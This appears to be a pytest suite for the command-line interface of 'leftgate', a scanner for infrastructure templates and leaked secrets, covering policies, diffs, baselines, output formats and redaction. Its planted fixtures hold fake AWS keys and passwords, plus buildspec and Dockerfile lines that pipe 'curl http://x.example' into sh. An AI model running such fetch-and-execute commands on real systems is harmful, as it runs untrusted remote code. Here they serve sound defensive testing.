"""The commands from outside: policies from a git reference, differences, baselines, outputs, secrets, crashes, signals."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[3]
BAD = "Resources:\n  Db:\n    Type: AWS::RDS::DBInstance\n    Properties:\n      PubliclyAccessible: true\n"
RULE = "rds-instance-public"
FORMATS = ["text", "json", "sarif", "sarif-github", "junit"]


def environment(**more: str) -> dict[str, str]:
    kept = {name: value for name, value in os.environ.items() if name in ("PATH", "TMPDIR", "SYSTEMROOT")}
    return {**kept, "PYTHONPATH": str(ROOT), "HOME": "/nonexistent", "GIT_CONFIG_GLOBAL": os.devnull, **more}


def leftgate(folder: Path, *arguments: str, status: int | None = None, **more: str) -> subprocess.CompletedProcess[str]:
    done = subprocess.run([sys.executable, "-m", "scanner", *arguments], cwd=folder, capture_output=True, text=True, check=False,
                          env=environment(**more), timeout=120, encoding="utf-8")
    assert "Traceback" not in done.stderr
    assert status is None or done.returncode == status, f"{arguments}: {done.returncode}\n{done.stdout[-2000:]}{done.stderr[-2000:]}"
    return done


def report(folder: Path, *arguments: str) -> dict:
    return json.loads(leftgate(folder, "scan", ".", "--format", "json", *arguments).stdout)


def git(folder: Path, *arguments: str) -> None:
    subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@example.org", *arguments], cwd=folder, check=True,
                   capture_output=True, env=environment())


@pytest.fixture
def repository(tmp_path: Path) -> Path:
    git(tmp_path, "init", "-q", "-b", "main")
    return tmp_path


def test_version_and_help(tmp_path: Path) -> None:
    from scanner import __version__

    assert leftgate(tmp_path, "--version", status=0).stdout == f"leftgate {__version__}\n"
    assert "examples:" in leftgate(tmp_path, "--help", status=0).stdout
    assert "usage: leftgate COMMAND" in leftgate(tmp_path, status=2).stdout


@pytest.mark.parametrize("command", ["scan", "hook", "baseline", "policy"])
def test_every_command_has_help_with_examples(tmp_path: Path, command: str) -> None:
    done = leftgate(tmp_path, command, "--help", status=0)
    assert "examples:" in done.stdout
    assert f"leftgate {command}" in done.stdout


def test_a_policy_from_a_reference_cannot_be_altered_by_the_change(repository: Path) -> None:
    (repository / "leftgate.yaml").write_text("policy: team\n")
    git(repository, "add", ".")
    git(repository, "commit", "-q", "-m", "x")
    (repository / "leftgate.yaml").write_text("policy: loose\nblock: never\n")
    (repository / "db.yaml").write_text(BAD)
    loose = report(repository)["decision"]
    assert (loose["policy"], loose["exit_status"]) == ("loose", 0)
    trusted = report(repository, "--policy-from", "main")["decision"]
    assert (trusted["policy"], trusted["exit_status"]) == ("team", 1)
    assert report(repository, "--policy", "leftgate.yaml", "--policy-from", "HEAD")["decision"]["policy"] == "team"
    assert report(repository, "--no-config")["decision"]["policy"] == "default"


def test_the_policy_of_the_repository_holds_below(repository: Path) -> None:
    (repository / "leftgate.yaml").write_text("policy: top\npaths:\n  - {match: /infra/, block: never}\n")
    (repository / "infra").mkdir()
    (repository / "infra/db.yaml").write_text(BAD)
    found = report(repository / "infra")
    assert (found["decision"]["policy"], found["decision"]["exit_status"], found["prefix"]) == ("top", 0, "infra/")
    assert {one["location"]["path"] for one in found["results"]} == {"db.yaml"}


def test_a_difference_counts_new_findings_only(repository: Path) -> None:
    (repository / "old.yaml").write_text(BAD)
    git(repository, "add", ".")
    git(repository, "commit", "-q", "-m", "x")
    git(repository, "checkout", "-q", "-b", "change")
    (repository / "old.yaml").write_text("# moved down\n\n" + BAD)
    same = report(repository, "--diff", "main")
    assert same["decision"]["exit_status"] == 0
    assert {found["kind"] for one in same["results"] for found in one["suppressions"]} == {"baseline"}
    (repository / "new.yaml").write_text(BAD.replace("Db:", "New:"))
    changed = report(repository, "--diff", "main")
    assert changed["decision"]["exit_status"] == 1
    assert {one["location"]["path"] for one in changed["results"] if not one["suppressions"]} == {"new.yaml"}


def test_a_baseline_goes_round(repository: Path) -> None:
    (repository / "db.yaml").write_text(BAD)
    leftgate(repository, "baseline", "write", "known.jsonl", ".", status=0)
    text = (repository / "known.jsonl").read_text()
    assert RULE in text
    assert text.splitlines() == sorted(text.splitlines())
    assert report(repository, "--baseline", "known.jsonl")["decision"]["exit_status"] == 0
    leftgate(repository, "baseline", "check", "known.jsonl", ".", status=0)
    (repository / "db.yaml").write_text(BAD.replace("true", "false"))
    assert "match no finding" in leftgate(repository, "baseline", "check", "known.jsonl", ".", status=1).stdout
    leftgate(repository, "baseline", "write", "known.jsonl", ".", status=0)
    assert RULE not in (repository / "known.jsonl").read_text()


def test_an_ignore_comment_and_a_policy_without_them(tmp_path: Path) -> None:
    (tmp_path / "db.yaml").write_text(BAD.replace("true\n", f"true  # leftgate: ignore[{RULE}] reason=public demo\n"))
    (found,) = [one for one in report(tmp_path)["results"] if one["rule"] == RULE]
    assert found["suppressions"] == [{"kind": "inline", "reason": "public demo", "source": "db.yaml:5", "until": ""}]
    (tmp_path / "leftgate.yaml").write_text("inline-ignores: false\n")
    (found,) = [one for one in report(tmp_path)["results"] if one["rule"] == RULE]
    assert found["suppressions"] == []


def test_several_reports_in_one_run(tmp_path: Path) -> None:
    (tmp_path / "db.yaml").write_text(BAD)
    done = leftgate(tmp_path, "scan", "db.yaml", "--output", "json=r.json", "--output", "junit=r.xml", "-q", status=1)
    assert done.stdout == ""
    assert json.loads((tmp_path / "r.json").read_text())["decision"]["exit_status"] == 1
    assert (tmp_path / "r.xml").read_text().startswith("<?xml")
    leftgate(tmp_path, "scan", "db.yaml", "-f", "sarif", "-o", "r.sarif", status=1)
    assert json.loads((tmp_path / "r.sarif").read_text())["version"] == "2.1.0"


def test_fail_on_overrules_the_policy(tmp_path: Path) -> None:
    (tmp_path / "db.yaml").write_text(BAD)
    assert report(tmp_path, "--fail-on", "never")["decision"]["exit_status"] == 0
    assert report(tmp_path, "--fail-on", "info")["decision"]["exit_status"] == 1


KEY = "AKIA" + "Z7Q4M2X9T6W3B5N8"  # put together here, so that no scanner takes this file for a leak
WORD = "gu3ss-" + "me-9Xk2-plain"
PLANTED = {
    "buildspec.yml": f"version: 0.2\nenv:\n  variables:\n    AWS_ACCESS_KEY_ID: {KEY}\n    DB_PASSWORD: {WORD}\nphases:\n"
                     f"  build:\n    commands:\n      - mysql -u root -p{WORD} -e 'x' && curl http://x.example/i.sh | sh\n",
    "app.py": f"password = '{WORD}'\nkey = '{KEY}'\nconnect(password='{WORD}')\n",
    "Dockerfile": f"FROM alpine\nENV DB_PASSWORD={WORD}\nRUN echo {KEY} && curl http://x.example | sh\n",
    "t.yaml": "Resources:\n  F:\n    Type: AWS::Lambda::Function\n    Properties:\n      Environment:\n        Variables:\n"
              f"          DB_PASSWORD: {WORD}\n          KEY: {KEY}\n  B: [1]\n",
    "bad.yaml": f"Resources:\n  A: {{x: {KEY}\n  password: {WORD}\n",
    "main.tf": f'resource "aws_db_instance" "d" {{\n  password = "{WORD}"\n}}\nprovider "aws" {{\n  access_key = "{KEY}"\n}}\n',
}


@pytest.mark.parametrize("form", FORMATS)
def test_no_output_shows_a_planted_secret(tmp_path: Path, form: str) -> None:
    for name, text in PLANTED.items():
        (tmp_path / name).write_text(text)
    for more in ((), ("--results", "all", "--profile", "audit"), ("--color", "always")):
        done = leftgate(tmp_path, "scan", ".", "-f", form, *more, status=1)
        for secret in (KEY, WORD):
            assert secret not in done.stdout
            assert secret not in done.stderr


def test_a_crash_is_a_log_without_contents(tmp_path: Path) -> None:
    program = (
        "import sys; from scanner import flow\n"
        "def broken(request):\n    secret = 'hunter2'\n    raise ValueError(secret + ' in a message')\n"
        "flow.run = broken\n"
        "from scanner.__main__ import main\nsys.exit(main(['scan', '.', '--baseline=my-file']))\n"
    )
    done = subprocess.run([sys.executable, "-c", program], cwd=tmp_path, capture_output=True, text=True, check=False, env=environment())
    assert done.returncode == 4
    assert done.stdout == ""
    assert "internal error" in done.stderr
    assert "builtins.ValueError" in done.stderr
    assert "command: scan --baseline" in done.stderr
    assert "scanner/cli/scan.py:" in done.stderr
    for hidden in ("hunter2", "my-file", "Traceback"):
        assert hidden not in done.stderr


def test_a_reader_that_goes_away_is_no_fault(tmp_path: Path) -> None:
    (tmp_path / "db.yaml").write_text(BAD * 1)
    done = subprocess.run(
        ["/bin/sh", "-c", f"{sys.executable} -m scanner scan . --results all --profile audit -f json; echo status $? >&2"],
        cwd=tmp_path, stdout=_closed_pipe(), stderr=subprocess.PIPE, text=True, check=False, env=environment(),
    )
    assert done.stderr == "status 1\n"


def _closed_pipe() -> int:
    reading, writing = os.pipe()
    os.close(reading)
    return writing


def test_an_interrupt_is_130(tmp_path: Path) -> None:
    program = (
        "import signal, sys, time; from scanner import flow\n"
        "signal.signal(signal.SIGINT, signal.default_int_handler)\n"  # a job in the background inherits it switched off
        "def slow(request):\n    print('ready', flush=True)\n    time.sleep(60)\n"
        "flow.run = slow\n"
        "from scanner.__main__ import main\nsys.exit(main(['scan', '.']))\n"
    )
    with subprocess.Popen([sys.executable, "-c", program], cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                          env=environment()) as process:
        assert process.stdout is not None
        assert process.stdout.readline() == "ready\n"
        process.send_signal(signal.SIGINT)
        _, errors = process.communicate(timeout=30)
    assert process.returncode == 130
    assert errors == "leftgate: interrupted\n"


def test_progress_shows_after_a_second_and_goes_away() -> None:
    import io

    from scanner.cli.progress import Bar

    stream = io.StringIO()
    bar = Bar(stream)
    bar.show("reading x", 0, 4)
    assert stream.getvalue() == ""
    bar._began = time.monotonic() - 2
    bar.show("reading x", 2, 4)
    assert "[############............] reading x" in stream.getvalue()
    bar.show("", 1, 1)
    assert stream.getvalue().endswith("\r\x1b[2K")


def test_policy_show_and_check(tmp_path: Path) -> None:
    assert "from low confidence" in leftgate(tmp_path, "policy", "show", "--policy", "strict", status=0).stdout
    (tmp_path / "p.yaml").write_text("policy: mine\nwaivers:\n  - {rule: a, path: b, reason: c, owner: d, expires: 2027-01-01}\n")
    assert "well formed" in leftgate(tmp_path, "policy", "check", "p.yaml", status=0).stdout
    assert "waiver a for b: c (d, 2027-01-01)" in leftgate(tmp_path, "policy", "show", "--policy", "p.yaml", status=0).stdout


def test_a_policy_turns_rules_off_and_sets_parameters(tmp_path: Path) -> None:
    (tmp_path / "db.yaml").write_text(BAD)
    (tmp_path / "leftgate.yaml").write_text(f"rules: {{{RULE}: false}}\n")
    assert RULE not in {one["rule"] for one in report(tmp_path)["results"]}
    (tmp_path / "leftgate.yaml").write_text(f"rules:\n  {RULE}:\n    parameters: {{nope: 1}}\n")
    assert f"rule {RULE} has no parameter 'nope'" in leftgate(tmp_path, "scan", ".", status=2).stderr


def test_an_unknown_rule_in_a_policy_is_a_warning(tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("x")
    (tmp_path / "leftgate.yaml").write_text("rules: {rds-instance-pubic: low}\n")
    (note,) = [note for note in report(tmp_path)["notifications"] if note["kind"] == "policy-unknown-rule"]
    assert note["level"] == "warning"
    assert note["hint"] == "did you mean rds-instance-public?"


def test_secrets_of_the_past_are_found(repository: Path) -> None:
    (repository / "app.py").write_text(f"import x\n\npassword = '{WORD}'\n")
    git(repository, "add", ".")
    git(repository, "commit", "-q", "-m", "x")
    (repository / "app.py").write_text("# moved away\n" * 9)
    git(repository, "commit", "-q", "-a", "-m", "y")
    assert report(repository)["results"] == []
    found = report(repository, "--history")
    (one,) = found["results"]
    assert one["location"]["path"].startswith("app.py@")
    assert one["location"]["start_line"] == 3
    assert "no longer in HEAD" in one["message"]
    for form in FORMATS:
        done = leftgate(repository, "scan", ".", "--history", "-f", form, "--results", "all", status=1)
        assert WORD not in done.stdout
    assert "password = '***" in leftgate(repository, "scan", ".", "--history", status=1).stdout


def test_a_secret_that_is_still_there_is_reported_once(repository: Path) -> None:
    (repository / "app.py").write_text(f"password = '{WORD}'\n")
    git(repository, "add", ".")
    git(repository, "commit", "-q", "-m", "x")
    assert [one["location"]["path"] for one in report(repository, "--history")["results"]] == ["app.py"]
    assert "is no range of commits" in leftgate(repository, "scan", ".", "--history", "a b", status=2).stderr


def test_an_ignore_in_the_metadata_of_a_json_template(tmp_path: Path) -> None:
    resource = {"Type": "AWS::RDS::DBInstance", "Properties": {"PubliclyAccessible": True},
                "Metadata": {"leftgate": {"ignore": [{"id": RULE, "reason": "demo until=2999-01-01"}]}}}
    (tmp_path / "t.json").write_text(json.dumps({"Resources": {"Db": resource}}, indent=1))
    (found,) = [one for one in report(tmp_path)["results"] if one["rule"] == RULE]
    assert [(one["kind"], one["reason"], one["until"]) for one in found["suppressions"]] == [("inline", "demo", "2999-01-01")]


def test_a_current_folder_that_is_gone(tmp_path: Path) -> None:
    gone = tmp_path / "gone"
    gone.mkdir()
    done = subprocess.run(["/bin/sh", "-c", f"rmdir {gone}; exec {sys.executable} -m scanner scan ."], cwd=gone, text=True,
                          capture_output=True, check=False, env=environment())
    assert done.returncode == 2
    assert "the current folder does not exist" in done.stderr


OPEN = "Parameters:\n  Public: {Type: String}\nResources:\n  Db:\n    Type: AWS::RDS::DBInstance\n    Properties:\n      PubliclyAccessible: !Ref Public\n"


@pytest.mark.parametrize("target", ["infra", ".", "infra/t.yaml"])
def test_parameter_files_are_named_from_where_we_stand(tmp_path: Path, target: str) -> None:
    (tmp_path / "work/infra").mkdir(parents=True)
    (tmp_path / "work/infra/t.yaml").write_text(OPEN)
    (tmp_path / "prod.json").write_text('[{"ParameterKey": "Public", "ParameterValue": "true"}]')
    done = leftgate(tmp_path / "work", "scan", target, "--format", "json", "--parameters", "../prod.json", status=1)
    assert RULE in {one["rule"] for one in json.loads(done.stdout)["results"]}
    assert "gone.json: No such file" in leftgate(tmp_path / "work", "scan", target, "--parameters", "gone.json", status=2).stderr


def test_variable_files_are_named_from_where_we_stand(tmp_path: Path) -> None:
    (tmp_path / "infra").mkdir()
    (tmp_path / "infra/main.tf").write_text(
        'variable "public" {}\nresource "aws_db_instance" "d" {\n  publicly_accessible = var.public\n}\n')
    (tmp_path / "prod.tfvars").write_text("public = true\n")
    for more in (["--var-file", "prod.tfvars"], ["--var", "public=true"]):
        done = leftgate(tmp_path, "scan", "infra", "--format", "json", *more, status=1)
        assert RULE in {one["rule"] for one in json.loads(done.stdout)["results"]}


def test_a_partial_run_calls_no_waiver_unused(repository: Path) -> None:
    (repository / "leftgate.yaml").write_text(f"waivers:\n  - {{rule: {RULE}, path: other/, reason: a, owner: b}}\n")
    (repository / "infra").mkdir()
    (repository / "infra/db.yaml").write_text(BAD)
    assert "waiver-unused" in {note["kind"] for note in report(repository)["notifications"]}
    assert "waiver-unused" not in {note["kind"] for note in report(repository / "infra")["notifications"]}
    done = leftgate(repository, "hook", "--format", "json", "--", "infra/db.yaml", status=1)
    assert "waiver-unused" not in {note["kind"] for note in json.loads(done.stdout)["notifications"]}
